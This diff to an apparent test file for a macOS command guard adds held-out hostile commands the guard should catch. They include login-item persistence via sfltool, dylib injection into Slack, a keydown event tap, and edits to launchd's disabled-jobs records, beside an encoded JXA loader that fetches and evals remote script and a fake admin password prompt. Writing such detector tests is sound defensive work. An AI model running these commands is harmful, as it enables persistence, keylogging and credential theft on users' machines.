@@ -10,8 +10,7 @@ ones measured:
 
 - what the user's clicks start: the Dock's tiles (``defaults write com.apple.dock persistent-apps``,
   ``dockutil --add``), LaunchServices' handlers (``LSHandlers``, ``duti -s``): asked; pointed at a
-  program kept in a temporary, shared, hidden or downloaded place (or ``--replacing`` a tile):
-  a planted look-alike, blocked;
+  program kept in a temporary, shared, hidden or downloaded place: a planted look-alike, blocked;
 - the folders macOS or an app loads plug-in code from (screen savers, colour pickers, preference
   panes, Spotlight importers, Quick Look generators, audio plug-ins, input methods, xbar/SwiftBar,
   Hammerspoon): asked, like a login item;
@@ -26,6 +25,11 @@ ones measured:
 - a decoded script piped into ``osascript`` judged as the script it decodes to;
 - ``do shell script … with administrator privileges with prompt "…"`` (the password dialog in the
   script's words); text typed into, or history read from, another terminal session.
+
+A second round was fixed on the held-out part's misses after it was measured (so those are no
+longer unseen): ``sfltool add-item`` (a login item), ``open --env DYLD_INSERT_LIBRARIES=…``, a
+global keyboard monitor in JXA (``addGlobalMonitorForEvents…KeyDown``, an event tap), launchd's own
+records of enabled and disabled jobs (``/var/db/launchd.db``, ``/var/db/com.apple.xpc.launchd``).
 """
 
 from __future__ import annotations
@@ -74,6 +78,14 @@ HELD = {
         "TC5VUkxXaXRoU3RyaW5nKCdodHRwczovL2Nkbi5leGFtcGxlLm5ldC91LmpzJyksNCxudWxsKTtldmFs"
         "KHMuanMp"
         " | base64 --decode | osascript -l JavaScript",
+    ],
+    "login items, injected apps, key monitors, launchd's records (second round)": [
+        "sfltool add-item ~/Library/Caches/.u/Updater.app",
+        "open -na Slack --env DYLD_INSERT_LIBRARIES=/Users/Shared/l.dylib",
+        "osascript -l JavaScript -e "
+        "'$.CGEventTapCreate(0, 0, 0, $.CGEventMaskBit($.kCGEventKeyDown), cb, null)'",
+        "sudo plutil -replace com.apple.ManagedClient.agent -bool false "
+        "/private/var/db/com.apple.xpc.launchd/disabled.plist",
     ],
     "admin prompt and other sessions": [
         'osascript -e \'do shell script "whoami" with prompt "Xcode needs to install components" '
